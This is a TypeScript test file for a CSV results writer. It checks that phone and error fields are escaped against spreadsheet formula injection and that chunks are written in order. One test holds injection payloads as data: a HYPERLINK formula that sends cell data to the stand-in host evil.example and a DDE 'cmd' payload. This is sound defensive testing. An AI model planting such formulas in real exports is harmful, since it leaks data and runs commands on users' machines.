import { createWriteStream } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createOrderedResultsWriter, RESULT_COLUMNS, resultsCsv, type BulkResultRow } from './index.js';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'cafe-bulk-results-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const row = (line: number, outcome: BulkResultRow['outcome'] = 'accepted', error = ''): BulkResultRow => ({
  line,
  phone: `92300${1_000_000 + line}`,
  outcome,
  uid: outcome === 'accepted' ? `u${line}` : '',
  error,
});

describe('resultsCsv', () => {
  it('writes exactly what csv-stringify writes with escape_formulas, whatever the text', () => {
    const texts = ['', ' ', 'plain', 'a,b', 'say "hi"', '"', '""', 'two\nlines', 'cr\ronly', 'crlf\r\n', ','];
    texts.push('=1+2', '-3', '+92 300', '@x', "'x", '\t tab', '\rcr', '＝1', '=a,"b"', 'اردو، متن', '😀,"😀"');
    const rows: BulkResultRow[] = texts.map((text, i) => ({ line: i + 2, phone: text, outcome: 'invalid', uid: text, error: text }));
    const options = { columns: [...RESULT_COLUMNS], escape_formulas: true };
    expect(resultsCsv(rows)).toBe(stringify(rows, options));
    expect(resultsCsv([])).toBe(stringify([], options));
  });

  it('writes a phone or an error that is a formula as text, so Excel does not run it', () => {
    const link = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
    const rows: BulkResultRow[] = [
      { line: 2, phone: link, outcome: 'invalid', uid: '', error: `"${link}" is not a phone number` },
      { line: 3, phone: '923001234567', outcome: 'rejected', uid: '', error: "+cmd|' /C calc'!A0" },
      { line: 4, phone: '@SUM(1+1)*cmd', outcome: 'invalid', uid: '', error: '-2+3' },
    ];
    expect(parse(resultsCsv(rows))).toEqual([
      ['2', `'${link}`, 'invalid', '', `"${link}" is not a phone number`],
      ['3', '923001234567', 'rejected', '', "'+cmd|' /C calc'!A0"],
      ['4', "'@SUM(1+1)*cmd", 'invalid', '', "'-2+3"],
    ]);
  });

  it('quotes what needs quoting', () => {
    const text = resultsCsv([row(3, 'invalid', 'has 3 fields, "quote" it\nplease')]);
    expect(parse(text)).toEqual([['3', '923001000003', 'invalid', '', 'has 3 fields, "quote" it\nplease']]);
  });
});

describe('createOrderedResultsWriter', () => {
  it('writes pieces that arrive out of order in sequence order, after a header', async () => {
    const file = path.join(dir, 'out.csv');
    const writer = createOrderedResultsWriter(createWriteStream(file));
    await writer.put(2, [row(6), row(7, 'unknown', 'timeout')]);
    await writer.put(0, [row(2), row(3, 'invalid', 'bad, really')]);
    await writer.put(1, [row(4, 'rejected', 'blacklisted'), row(5)]);
    await writer.close();
    const text = await readFile(file, 'utf8');
    expect(text.split('\n')[0]).toBe('line,phone,outcome,uid,error');
    const parsed = parse<Record<string, string>>(text, { columns: true });
    expect(parsed.map((r) => [r.line, r.outcome, r.uid, r.error])).toEqual([
      ['2', 'accepted', 'u2', ''],
      ['3', 'invalid', '', 'bad, really'],
      ['4', 'rejected', '', 'blacklisted'],
      ['5', 'accepted', 'u5', ''],
      ['6', 'accepted', 'u6', ''],
      ['7', 'unknown', '', 'timeout'],
    ]);
  });

  it('writes only the header when there are no rows', async () => {
    const file = path.join(dir, 'none.csv');
    await createOrderedResultsWriter(createWriteStream(file)).close();
    expect(await readFile(file, 'utf8')).toBe('line,phone,outcome,uid,error\n');
  });

  it('refuses to close with a piece missing', async () => {
    const writer = createOrderedResultsWriter(createWriteStream(path.join(dir, 'gap.csv')));
    await writer.put(1, [row(2)]);
    await expect(writer.close()).rejects.toThrow(/piece 0 never arrived/);
  });
});
